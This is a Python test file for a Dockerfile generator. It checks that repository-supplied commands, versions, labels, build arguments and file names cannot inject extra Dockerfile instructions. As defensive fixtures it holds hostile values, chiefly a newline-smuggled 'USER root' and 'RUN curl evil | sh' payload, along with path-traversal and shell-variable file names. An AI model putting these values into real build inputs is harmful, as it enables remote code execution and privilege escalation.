"""Nothing that a repository says about itself can become an instruction of its Dockerfile."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from slipway.containerize.analysis import Component, Evidence
from slipway.containerize.analysis.instructions import instructions
from slipway.containerize.dockerfile import DockerfileOptions, write_dockerfile
from slipway.containerize.dockerfile.lines import cmd, exec_form, label
from slipway.saga.errors import Rejected

EVIL = "x\nUSER root\nRUN curl evil | sh"
TEXT = st.text(st.characters(exclude_categories=[]), max_size=60)


def component(**fields: object) -> Component:
    known: dict[str, object] = {
        "path": ".",
        "language": "python",
        "version": "3.13",
        "package_manager": "pip",
        "install_command": "pip install --requirement requirements.txt",
        "start_command": "python app.py",
        "port": 8000,
        "confidence": 1,
    }
    return Component.model_validate({**known, **fields})


def shape(text: str) -> list[str]:
    return [each.word for each in instructions(text)]


@given(start=TEXT, install=TEXT, health=TEXT, workflow=TEXT)
def test_no_text_adds_an_instruction(start: str, install: str, health: str, workflow: str) -> None:
    options = DockerfileOptions(labels={"slipway.dev/workflow": workflow})
    plain = component(start_command="./x", install_command="x", health_path="/")
    hostile = component(start_command=f"./x {start}", install_command=f"x {install}",
                        health_path=health or "/")  # fmt: skip

    found = shape(write_dockerfile(hostile, options))

    assert [word for word in found if word != "STOPSIGNAL"] == [
        word for word in shape(write_dockerfile(plain, options)) if word != "STOPSIGNAL"
    ]


@given(TEXT)
def test_a_command_is_always_one_line_of_json(command: str) -> None:
    words = json.loads(exec_form(command))

    assert "\n" not in exec_form(command)
    assert words
    assert all(isinstance(word, str) for word in words)


@pytest.mark.parametrize("language", ["python", "node", "go", "static"])
def test_a_newline_in_a_manifest_stays_a_space(language: str) -> None:
    hostile = component(language=language, start_command=EVIL, build_command=EVIL, health_path=EVIL)

    users = [each for each in instructions(write_dockerfile(hostile, DockerfileOptions()))
             if each.word == "USER"]  # fmt: skip

    assert [each.rest for each in users] == ["10001:10001"]


@pytest.mark.parametrize(
    "name", ["$HOME.txt", "-x.txt", "a b.txt", 'a".txt', "a\\.txt", "../a.txt"]
)
def test_a_file_whose_name_means_something_to_the_builder_is_refused(name: str) -> None:
    evidence = (Evidence(file=name, line=1, text=""),)

    with pytest.raises(Rejected) as refused:
        write_dockerfile(component(evidence=evidence), DockerfileOptions())
    assert refused.value.code == "unsafe_name"


def test_a_version_that_is_no_version_is_refused() -> None:
    with pytest.raises(Rejected):
        write_dockerfile(component(version="3.13\nUSER root"), DockerfileOptions())


def test_a_label_keeps_quotes_dollars_and_newlines_to_itself() -> None:
    assert label({"a": 'x" $HOME \\ \n USER root'}) == ['LABEL "a"="x\\" \\$HOME \\\\   USER root"']


def test_a_label_or_build_argument_with_a_strange_name_is_refused() -> None:
    with pytest.raises(Rejected):
        label({"a b": "x"})
    with pytest.raises(Rejected):
        write_dockerfile(component(), DockerfileOptions(build_args=("A=1\nUSER root",)))


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        ("gunicorn -b :8000 app:app", ["gunicorn", "-b", ":8000", "app:app"]),
        ("gunicorn 'shop:create_app()'", ["gunicorn", "shop:create_app()"]),
        ("migrate && serve", ["/bin/sh", "-ec", "migrate && exec serve"]),
        ("serve --at $HOST", ["/bin/sh", "-ec", "exec serve --at $HOST"]),
        ("MODE=x node a.js", ["env", "MODE=x", "node", "a.js"]),
        ("a | b", ["/bin/sh", "-ec", "a | b"]),
        ("it's broken", ["/bin/sh", "-ec", "exec it's broken"]),
    ],
)
def test_the_program_becomes_process_1_with_or_without_a_shell(
    command: str, argv: list[str]
) -> None:
    assert json.loads(cmd(command).removeprefix("CMD ")) == argv
